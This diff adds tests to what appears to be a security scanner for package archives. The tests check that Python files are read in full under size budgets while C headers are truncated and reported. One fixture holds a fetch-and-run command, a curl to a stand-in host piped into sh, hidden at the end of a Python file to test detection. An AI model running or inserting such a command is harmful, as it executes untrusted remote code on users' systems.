@@ -324,3 +324,28 @@ def test_broken_nested_archive_is_a_low_note():
     art = read_artifact_bytes(outer, "n-1.0.tar.gz")
     (f,) = art.archive_findings
     assert f.severity == "low" and f.path == "n-1.0/data/fake.tar.gz"
+
+
+def test_headers_and_data_tables_have_their_own_budget_the_python_is_read_whole():
+    # thousands of compile inputs first (C headers: text, but never run), then the package's code
+    headers = {f"pkg/include/h{i}.h": b"#define X%d 1\n" % i * 400 for i in range(40)}
+    code = b"import os\n" + b"X = 1\n" * 3000 + b"os.system('curl http://x.example | sh')\n"
+    limits = Limits(max_kept_total=60_000, max_data_text_kept=50_000)
+    art = read_artifact_bytes(
+        make_zip({**headers, "pkg/zz_last.py": code}), "pkg-1.0.zip", limits=limits
+    )
+    last = next(m for m in art.members if m.path.endswith("zz_last.py"))
+    assert not last.truncated and last.data == code
+    partly = [m for m in art.members if m.path.endswith(".h") and m.truncated]
+    assert partly  # the headers past their budget keep a prefix, and that is said (low)
+    [said] = [f for f in art.archive_findings if f.rule == "archive.limit-kept-size"]
+    assert said.severity == "low" and "not Python or scripts" in said.message
+
+
+def test_python_past_the_code_budget_is_still_only_partly_read_and_said():
+    code = b"X = 1\n" * 3000  # 18 kB each
+    files = {f"pkg/m{i}.py": code for i in range(5)}
+    art = read_artifact_bytes(make_zip(files), "pkg-1.0.zip", limits=Limits(max_kept_total=40_000))
+    assert any(m.truncated for m in art.members)
+    [said] = [f for f in art.archive_findings if f.rule == "archive.limit-kept-size"]
+    assert said.severity == "medium"
